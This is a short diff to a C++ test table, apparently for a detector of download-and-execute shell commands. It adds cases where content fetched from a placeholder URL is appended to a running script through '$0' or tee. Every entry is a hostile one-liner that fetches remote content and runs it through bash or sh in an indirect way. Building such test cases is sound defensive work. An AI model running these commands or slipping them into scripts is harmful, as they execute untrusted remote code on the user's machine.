@@ -71,6 +71,10 @@ const Attack kFileAttacks[] = {
               "bash packed.sh"),
     FILE_CASE("what another left",
               "curl -s @URL | { dd count=0 status=none; cat > @D/f; }; bash @D/f"),
+    FILE_CASE("appended to a script that runs",
+              "echo 'curl -s @PROGRAMS_URL >> \"$0\"' > @D/s; sh @D/s"),
+    FILE_CASE("appended by a filter to a script that bash runs",
+              "echo 'curl -s @PROGRAMS_URL | tee -a \"$0\" > /dev/null' > @D/s; bash @D/s"),
     FILE_CASE("a loop over a file",
               "curl -s -o @D/f @URL; { dd count=0 status=none; cat > @D/g; } < @D/f; bash @D/g"),
     FILE_CASE(
